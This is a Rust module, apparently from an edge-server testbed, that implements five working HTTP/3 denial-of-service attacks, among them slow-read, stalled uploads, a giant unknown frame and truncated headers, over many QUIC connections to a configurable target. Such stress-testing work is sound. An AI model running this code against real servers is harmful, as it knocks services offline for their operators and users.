//! Attacks over HTTP/3. Frames and heads are bytes here (RFC 9114 section 7, RFC 9204 section 4.5):
//! a library would send what is right.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result, bail};
use edge_testbed::words::Words;
use quinn::crypto::rustls::QuicClientConfig;
use quinn::{Connection, Endpoint, RecvStream, SendStream, VarInt};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use super::wire;

/// Requests on one connection, as many as the edge takes by default.
const STREAMS: usize = 128;
/// For a connection, and for a step of an attack that the edge does not take any more.
const PATIENCE: Duration = Duration::from_secs(3);

/// Runs the attack called `name` with `connections=`, for `seconds=`; how many connections there
/// were.
pub(crate) fn run(runtime: &tokio::runtime::Runtime, name: &str, words: &Words) -> Result<usize> {
    let seconds = Duration::from_secs_f64(words.get("seconds")?);
    let start = std::time::Instant::now();
    let clients = Clients::new(runtime, words)?;
    let attack = Attack::named(name)?;
    let connections: usize = words.get("connections")?;
    // Both are kept to the end: what is dropped is closed.
    let mut tasks = JoinSet::new();
    let mut open = Vec::new();
    runtime
        .block_on(async {
            for _ in 0..connections {
                let clients = clients.clone();
                tasks.spawn(async move { clients.attack(attack).await });
            }
            let all = async {
                while let Some(done) = tasks.join_next().await {
                    open.extend(done.ok().and_then(Result::ok));
                }
            };
            // Whoever falls silent does so when all have asked.
            timeout(seconds.mul_f64(0.5), all).await
        })
        .ok();
    if matches!(attack, Attack::SlowRead) {
        // Nothing drives the connections: no acknowledgement leaves.
        std::thread::sleep(seconds.saturating_sub(start.elapsed()));
    } else {
        // Within the runtime: a timer made outside of it has no clock.
        runtime.block_on(async { sleep(seconds.saturating_sub(start.elapsed())).await });
    }
    Ok(open.len() + tasks.len())
}

#[derive(Clone, Copy, Debug)]
enum Attack {
    SlowRead,
    Uploads,
    HugeFrames,
    Headers,
    Trailers,
}

impl Attack {
    fn named(name: &str) -> Result<Self> {
        Ok(match name {
            "slow-read-h3" => Self::SlowRead,
            "uploads-h3" => Self::Uploads,
            "huge-frames-h3" => Self::HugeFrames,
            "headers-h3" => Self::Headers,
            "trailers-h3" => Self::Trailers,
            _ => bail!("no attack is called {name:?}"),
        })
    }
}

/// A connection and its streams: dropped, they would be reset.
struct Open {
    _connection: Connection,
    _control: SendStream,
    _streams: Vec<(SendStream, RecvStream)>,
}

#[derive(Clone)]
struct Clients {
    endpoint: Endpoint,
    target: SocketAddr,
    host: Arc<str>,
}

impl Clients {
    fn new(runtime: &tokio::runtime::Runtime, words: &Words) -> Result<Self> {
        let mut tls = wire::client(words)?;
        tls.alpn_protocols = vec![b"h3".to_vec()];
        let mut transport = quinn::TransportConfig::default();
        transport
            .stream_receive_window(VarInt::from_u32(64 << 20))
            .receive_window(VarInt::from_u32(1 << 30))
            .max_idle_timeout(Some(Duration::from_secs(120).try_into()?));
        let mut config = quinn::ClientConfig::new(Arc::new(QuicClientConfig::try_from(tls)?));
        config.transport_config(Arc::new(transport));
        let source: IpAddr = words.get("source")?;
        let _guard = runtime.enter();
        let mut endpoint = Endpoint::client(SocketAddr::new(source, 0))?;
        endpoint.set_default_client_config(config);
        Ok(Self {
            endpoint,
            target: words.get("target")?,
            host: words.get::<String>("host")?.into(),
        })
    }

    /// One connection, which stays open as long as what is given back.
    async fn attack(&self, attack: Attack) -> Result<Open> {
        let connecting = self.endpoint.connect(self.target, &self.host)?;
        let connection = timeout(PATIENCE, connecting).await.context("no handshake")??;
        let mut control = connection.open_uni().await?;
        control.write_all(&[0, 4, 0]).await?;
        let mut streams = Vec::new();
        // Whatever the edge does not take is not waited for.
        let _ = timeout(
            PATIENCE,
            self.carry_out(attack, &connection, &mut control, &mut streams),
        )
        .await;
        Ok(Open {
            _connection: connection,
            _control: control,
            _streams: streams,
        })
    }

    async fn carry_out(
        &self,
        attack: Attack,
        connection: &Connection,
        control: &mut SendStream,
        streams: &mut Vec<(SendStream, RecvStream)>,
    ) -> Result<()> {
        let path = if matches!(attack, Attack::SlowRead) {
            "/big"
        } else {
            "/stall"
        };
        let method = if matches!(attack, Attack::SlowRead) {
            "GET"
        } else {
            "POST"
        };
        let head = frame(1, &self.section(method, path));
        match attack {
            Attack::HugeFrames => {
                // A frame of a kind that nobody knows, of 2^40 bytes.
                control.write_all(&[0x21, 0xc0, 0, 1, 0, 0, 0, 0, 0]).await?;
                loop {
                    control.write_all(&[0; 16 << 10]).await?;
                }
            }
            Attack::SlowRead | Attack::Uploads | Attack::Headers | Attack::Trailers => {
                for _ in 0..STREAMS {
                    streams.push(connection.open_bi().await?);
                    let Some((send, _)) = streams.last_mut() else { break };
                    match attack {
                        Attack::SlowRead => {
                            send.write_all(&head).await?;
                            send.finish()?;
                        }
                        // A HEADERS frame that promises 30 KiB and lacks its end.
                        Attack::Headers => {
                            send.write_all(&[vec![1, 0x80, 0, 0x75, 0x30], vec![0; 29_000]].concat())
                                .await?
                        }
                        Attack::Trailers => {
                            send.write_all(&head).await?;
                            send.write_all(&[vec![1, 0xc0, 0, 1, 0, 0, 0, 0, 0], vec![0; 60_000]].concat())
                                .await?;
                        }
                        _ => {
                            send.write_all(&head).await?;
                            let _ =
                                timeout(Duration::from_millis(20), send.write_all(&frame(0, &vec![0; 120_000]))).await;
                        }
                    }
                }
            }
        }
        Ok(())
    }

    /// A field section of literals with literal names.
    fn section(&self, method: &str, path: &str) -> Vec<u8> {
        let mut bytes = vec![0, 0];
        for (name, value) in [
            (":method", method),
            (":scheme", "https"),
            (":authority", &*self.host),
            (":path", path),
        ] {
            // Lengths with prefixes of three and of seven bits; no value here needs more than the
            // latter has.
            match u8::try_from(name.len()) {
                Ok(short) if short < 7 => bytes.push(0x20 | short),
                _ => bytes.extend([0x27, u8::try_from(name.len().saturating_sub(7)).unwrap_or(0)]),
            }
            bytes.extend(name.as_bytes());
            bytes.push(u8::try_from(value.len()).unwrap_or(0));
            bytes.extend(value.as_bytes());
        }
        bytes
    }
}

/// A frame of less than 2^30 bytes.
fn frame(kind: u8, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0) | 0x8000_0000;
    let mut bytes = vec![kind];
    bytes.extend(length.to_be_bytes());
    bytes.extend(payload);
    bytes
}
